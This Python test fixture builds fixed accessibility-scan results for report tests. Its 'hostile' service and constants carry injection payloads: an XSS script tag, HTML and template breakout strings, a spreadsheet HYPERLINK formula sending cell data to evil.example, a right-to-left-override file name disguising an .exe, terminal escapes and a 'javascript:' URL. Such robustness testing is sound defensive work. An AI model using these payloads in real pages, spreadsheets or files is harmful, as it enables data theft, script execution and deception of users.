"""A scan by hand with everything that a report has to stand: three services, every state, hostile text.

`rich_scan()` is the whole of it; the makers above it build smaller ones. All of it is fixed, so that a
document made from it can be compared byte by byte.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from reports.model import KindSample, PageResult, Sample, Scan, SiteResult, Tool
from rules.inventory import Held
from rules.model import PageOutcome, Place, RuleInfo, SiteOutcome, Verdict
from rules.page import PageState, ProbeReport

SCRIPT = "<script>alert(document.domain)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(1)>{{7*7}}{% raw %}</title></style></textarea>]]>-->"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
OVERRIDE = "invoice\u202egnp.exe"
TERMINAL = "\x1b[31mred\x1b[0m\x07\x00 \u200binvisible \u2028separator \ud83d half"
HUGE = "x" * 2_000_000
HOSTILE = (SCRIPT, BREAKOUT, FORMULA, OVERRIDE, TERMINAL)


def rule(name: str, **known: Any) -> RuleInfo:
    """A rule of the catalogue; what is not said is something plausible."""
    given: dict[str, Any] = {
        "title": f"Everything is right about {name}",
        "why": "Somebody would be left out otherwise.",
        "fix": "Make it right.",
        "wcag": ("4.1.2",),
        "impact": "serious",
        "scope": "component",
        "role": "development",
        "topic": "names",
        **known,
    }
    return RuleInfo(id=name, **given)


def outcome(info: RuleInfo, message: str, **known: Any) -> PageOutcome:
    """A failure of a rule, with a place and a fingerprint of its own unless told otherwise."""
    given: dict[str, Any] = {
        "verdict": Verdict.FAILED,
        "target": Place("main > .card", '<div class="card">…</div>'),
        "fingerprint": f"{info.id[:6]:_<6}{len(message):010d}",
        **known,
    }
    return PageOutcome(rule=info.id, wcag=info.wcag, act=info.act, impact=info.impact, message=message, **given)


def passes(info: RuleInfo, count: int = 1) -> PageOutcome:
    """That a rule found nothing wrong at so many places."""
    return outcome(info, "", verdict=Verdict.PASSED, target=None, fingerprint="", count=count)


def untested(info: RuleInfo, message: str, verdict: Verdict = Verdict.UNTESTED) -> PageOutcome:
    """That a rule could not judge."""
    return outcome(info, message, verdict=verdict, target=None, fingerprint="")


def page(url: str, title: str = "", outcomes: Iterable[PageOutcome] = (), **known: Any) -> PageResult:
    """A page that was looked at, drawn at random."""
    given: dict[str, Any] = {
        "final_url": url,
        "status": 200,
        "language": "en",
        "template": "article",
        "random": True,
        "probes": (ProbeReport("axe"), ProbeReport("dom"), ProbeReport("listeners")),
        "inventory": (Held("headings", 3), Held("links", 12)),
        **known,
    }
    return PageResult(url=url, title=title or url, outcomes=tuple(outcomes), **given)


def not_tested(url: str, state: PageState, reason: str = "", status: int = 0) -> PageResult:
    """A page that could not be judged as one."""
    return PageResult(url=url, state=state, reason=reason, status=status)


def scan(*sites: SiteResult, rules: Iterable[RuleInfo] = (), **known: Any) -> Scan:
    """A finished scan of these services."""
    given: dict[str, Any] = {
        "number": 7,
        "started": "2026-03-02T08:00:00Z",
        "finished": "2026-03-02T08:14:09Z",
        "tool": Tool("0.1.0", axe="4.11.0", browser="Chromium 143.0", rule_set="3f9c2ab1d004"),
        "settings": {"max-pages": 50, "concurrency": 4, "robots": "obey"},
        **known,
    }
    return Scan(rules=tuple(rules), sites=sites, **given)


IMAGE_ALT = rule(
    "image-alt",
    title="Images have a text alternative",
    why="People who cannot see an image hear nothing of it, or its file name, when it has no text alternative.",
    fix="Write an alt attribute that says what the image is there for; leave it empty when it only decorates.",
    wcag=("1.1.1",),
    act=("23a2a8",),
    impact="critical",
    role="content",
    topic="images",
    serves=("WV",),
)
BUTTON_NAME = rule(
    "button-name",
    title="Buttons have a name",
    why="A button without a name is announced as “button” only; nobody can ask for it by voice.",
    fix="Put text into the button, or give it an aria-label that says what it does.",
    wcag=("4.1.2",),
    act=("97a4e1",),
    impact="critical",
)
CONTRAST = rule(
    "color-contrast",
    title="Text stands out from its background",
    why="People with limited vision cannot read text that is almost as light as what is behind it.",
    fix="Use a text colour with a contrast of at least 4.5:1 (3:1 for large text).",
    wcag=("1.4.3",),
    act=("afw4f7",),
    role="design",
    topic="visual",
)
TRAP = rule(
    "keyboard-trap",
    title="Focus can leave every component with the keyboard",
    why="Whoever cannot use a mouse does not get past this place.",
    fix="Let Tab and Shift+Tab, or Escape, leave the component.",
    wcag=("2.1.2",),
    act=("80af7b",),
    impact="critical",
    topic="keyboard",
    needs=("dom", "focus"),
)
HTML_LANG = rule(
    "page-language",
    title="The page says which language it is in",
    why="A voice with the wrong language cannot be understood.",
    fix='Write the language into the html element, for example lang="en".',
    wcag=("3.1.1",),
    act=("b5c3f8",),
    scope="page",
    topic="language",
    covers="fully",
)
TARGET_SIZE = rule(
    "target-size",
    title="Targets are large enough to be hit",
    why="Small targets are hard to hit for people whose hands shake.",
    fix="Make the target at least 24 by 24 CSS pixels, or give it room.",
    wcag=("2.5.8",),
    impact="moderate",
    role="design",
    topic="visual",
)
REGION = rule(
    "region",
    title="All content is inside a landmark",
    why="Landmarks let people jump over what repeats on every page.",
    fix="Move the content into main, nav, header, footer or aside.",
    wcag=(),
    impact="moderate",
    topic="structure",
)
LINK_PURPOSE = rule(
    "link-purpose",
    title="The purpose of every link can be understood",
    why="A list of links is how many people find their way on a page.",
    fix="Say in the link where it leads.",
    wcag=("2.4.4",),
    role="content",
    topic="names",
)
HELP = rule(
    "consistent-help",
    title="Help stands at the same place on every page",
    why="People who need help must find it again.",
    fix="Keep contact and help links in the same order on every page.",
    wcag=("3.2.6",),
    impact="moderate",
    scope="page",
    kind="site",
    topic="consistency",
)
STRANGE = rule(
    f"acme/{SCRIPT}/../../etc",
    title=f"Nothing strange {SCRIPT}",
    why=BREAKOUT,
    fix=OVERRIDE,
    wcag=("9.9.9", SCRIPT),
    act=(BREAKOUT,),
    impact="minor",
)

STRUCTURE = rule(
    "structure",
    title="Structure that is seen is in the markup too",
    wcag=("1.3.1", "1.3.2", "2.4.1", "2.4.2", "2.4.3", "2.4.6", "3.3.2"),
    topic="structure",
    covers="fully",
)
PRESENTATION = rule(
    "presentation",
    title="Text can be enlarged, spaced and reflowed",
    wcag=("1.4.1", "1.4.4", "1.4.10", "1.4.11", "1.4.12", "2.4.7", "2.5.3"),
    role="design",
    topic="visual",
    covers="fully",
)
MEDIA = rule(
    "captions",
    title="Video has captions",
    wcag=("1.2.1", "1.2.2", "1.2.4"),
    impact="critical",
    role="content",
    topic="media",
)

RULES = (
    BUTTON_NAME,
    MEDIA,
    CONTRAST,
    HELP,
    HTML_LANG,
    IMAGE_ALT,
    LINK_PURPOSE,
    REGION,
    PRESENTATION,
    STRANGE,
    STRUCTURE,
    TARGET_SIZE,
    TRAP,
)

_SEARCH = outcome(
    BUTTON_NAME,
    "The search button in the header has no name.",
    target=Place("header button.search", '<button class="search"><svg viewBox="0 0 16 16">…</svg></button>'),
)
_GREY = outcome(
    CONTRAST,
    "The grey text has a contrast of 2.9:1 against its background; it needs 4.5:1.",
    target=Place("main p.hint", '<p class="hint">You can apply at any time.</p>'),
    count=4,
    variants=("dark",),
)
_ASK = outcome(
    LINK_PURPOSE,
    "Can it be understood from the link alone, or from the sentence around it, where “More” leads?",
    verdict=Verdict.CANT_TELL,
    target=Place("main a.more", '<a class="more" href="/news/14">More</a>'),
)
_TRAPPED = outcome(
    TRAP,
    "Focus enters the map and does not leave it with Tab, Shift+Tab or Escape.",
    target=Place("#map", '<div id="map" tabindex="0">…</div>', "https://maps.example.org/embed"),
    blocks=True,
)


def _good(*left_out: RuleInfo) -> list[PageOutcome]:
    return [passes(info, 3) for info in (IMAGE_ALT, BUTTON_NAME, CONTRAST, HTML_LANG) if info not in left_out]


def harbour() -> SiteResult:
    """A service with problems in a shared header, a proven blocker, open questions and untested pages."""
    home = "https://harbour.example.gov/"
    photo = outcome(
        IMAGE_ALT,
        "The photo of the office has no text alternative.",
        target=Place("main img:nth-of-type(2)", '<img src="/img/office-4711.jpg" class="wide">'),
    )
    pages = (
        page(home, "Harbour Benefits", [_SEARCH, photo, _ASK, *_good(IMAGE_ALT, BUTTON_NAME)], random=False),
        page(
            f"{home}apply",
            "Apply for a benefit",
            [_SEARCH, _GREY, outcome(TARGET_SIZE, "The remove buttons are 16 by 16 pixels.")],
            template="form",
            inventory=(
                Held("buttons", 2),
                Held("fields", 14),
                Held("files", 1, ("/forms/b12.pdf",)),
                Held("forms", 1, ("main > form",)),
            ),
        ),
        page(
            f"{home}contact",
            "Contact us",
            [_SEARCH, _TRAPPED, _ASK, *_good(BUTTON_NAME)],
            template="form",
            inventory=(
                Held("links", 9),
                Held("maps", 1, ("maps.example.org/embed",)),
                Held("players", 1, ("player.vimeo.com/video/4711",)),
                Held("videos", 2, ("/media/find-us.webm", "/media/offices.webm")),
            ),
        ),
        page(
            f"{home}es/ayuda?seccion=prestaciones&pagina=2#requisitos",
            "Ayuda con su solicitud",
            [_SEARCH, _GREY, outcome(REGION, "The notice stands outside every landmark.", verdict=Verdict.FAILED)],
            language="es",
            final_url=f"{home}es/ayuda/",
            notes=("2 requests that would have changed something were refused.",),
        ),
        page(
            f"{home}news/14",
            "News",
            [_SEARCH, untested(TRAP, "There is no evidence from: focus."), *_good(BUTTON_NAME)],
            probes=(ProbeReport("axe"), ProbeReport("dom"), ProbeReport("focus", "took longer than 20 s")),
        ),
        page(
            f"{home}news/15",
            "Office hours change in May",
            [_SEARCH, outcome(HTML_LANG, "The page does not say which language it is in.", target=None)],
            language="",
        ),
        *(
            page(
                f"{home}news/{n}",
                f"News of week {n - 14}",
                [_SEARCH, *_good(BUTTON_NAME)],
                inventory=(Held("links", 12), Held("pictures", n - 14), Held("tables", 1, ("main > table",))),
            )
            for n in range(16, 24)
        ),
        not_tested(f"{home}account", PageState.LOGIN, "The page asks for a password.", 200),
        not_tested(f"{home}forms/b12.pdf", PageState.NOT_HTML, "application/pdf", 200),
        not_tested(f"{home}map", PageState.TIMEOUT, "The page went on loading for 30 s."),
    )
    moved = SiteOutcome(
        Verdict.FAILED,
        "The contact link stands in the footer here and in the header on other pages.",
        (f"{home}news/14", f"{home}news/15"),
        "5d2c0c11aa03be42",
        HELP.id,
    )
    return SiteResult(
        home,
        "Harbour Benefits",
        agency="Department of Harbours",
        kind="benefits",
        profile="us-508",
        sample=Sample(
            4_180,
            17,
            (
                KindSample("article", 4_000, 12, "/news/*", f"{home}news/14", "News"),
                KindSample("form", 130, 2, "/apply", f"{home}apply", "Apply for a benefit"),
                KindSample("", 50, 0, "/archive/*"),
            ),
        ),
        pages=pages,
        site_outcomes=(moved,),
    )


def hostile() -> SiteResult:
    """A service whose every text is an attack on the report, and which is huge."""
    home = "https://hostile.example.org/"
    unsafe = (
        "javascript:alert(1)",
        f"{home}?q={SCRIPT}",
        f"{home}{OVERRIDE}",
        f"{home}{'a/' * 4000}",
        "data:text/html,x",
    )
    strange = [
        outcome(STRANGE, text, target=Place(text, f'<p title="{text}">', text), fingerprint=text, variants=(text,))
        for text in HOSTILE
    ]
    big = outcome(IMAGE_ALT, HUGE, target=Place(HUGE, f'<img longdesc="{HUGE}">', HUGE), fingerprint=HUGE)
    pages = tuple(
        page(
            url,
            text,
            [*strange, big, untested(TRAP, text, Verdict.ERROR)],
            final_url=url,
            template=text,
            language=text,
            notes=(text,),
            probes=(ProbeReport(text, text),),
            inventory=(Held("languages", 2, (text, HUGE)), Held("videos", 3, (text,)), Held(text, 1)),
        )
        for url, text in zip(unsafe, HOSTILE, strict=True)
    )
    ask = outcome(LINK_PURPOSE, BREAKOUT, verdict=Verdict.CANT_TELL, fingerprint=SCRIPT)
    return SiteResult(
        home,
        f"Hostile {SCRIPT}{OVERRIDE}",
        agency=BREAKOUT,
        kind=FORMULA,
        sample=Sample(
            2_000,
            7,
            (KindSample(SCRIPT, 1_900, 5, f"/{SCRIPT}/*", unsafe[0], SCRIPT), KindSample("", 100, 0, f"/{HUGE}/*")),
        ),
        pages=(
            *pages,
            page(f"{home}b", TERMINAL, [ask], notes=(HUGE,)),
            not_tested(f"{home}c", PageState.BLOCKED, SCRIPT, 403),
        ),
        notes=(SCRIPT,),
    )


def silent() -> SiteResult:
    """A service of which nothing could be judged."""
    home = "https://closed.example.gov/"
    return SiteResult(
        home,
        "Licences",
        agency="Department of Harbours",
        state="not-judged",
        reason="Its first page did not answer.",
        sample=Sample(1, 1),
        pages=(not_tested(home, PageState.UNREACHABLE, "Nothing answered within 20 s."),),
    )


def faultless() -> SiteResult:
    """A service of which every page was looked at and in which nothing was found."""
    home = "https://library.example.gov/"
    pages = tuple(page(f"{home}{name}", name.title(), _good()) for name in ("", "books", "hours"))
    return SiteResult(home, "City Library", sample=Sample(3, 3, (KindSample("article", 3, 3),)), pages=pages)


def rich_scan() -> Scan:
    """Four services: with problems, hostile, not judged, and one without findings."""
    broken = ("plug-in acme (acme:rules): No module named 'acme'",)
    tool = Tool("0.1.0", axe="4.11.0", browser="Chromium 143.0", rule_set="3f9c2ab1d004", broken_plugins=broken)
    return scan(harbour(), hostile(), silent(), faultless(), rules=RULES, tool=tool, complete=False)


def one_service() -> Scan:
    """A scan of one service, as most are."""
    return scan(harbour(), rules=RULES)


def clean_scan() -> Scan:
    """A scan without any finding."""
    return scan(faultless(), rules=RULES)
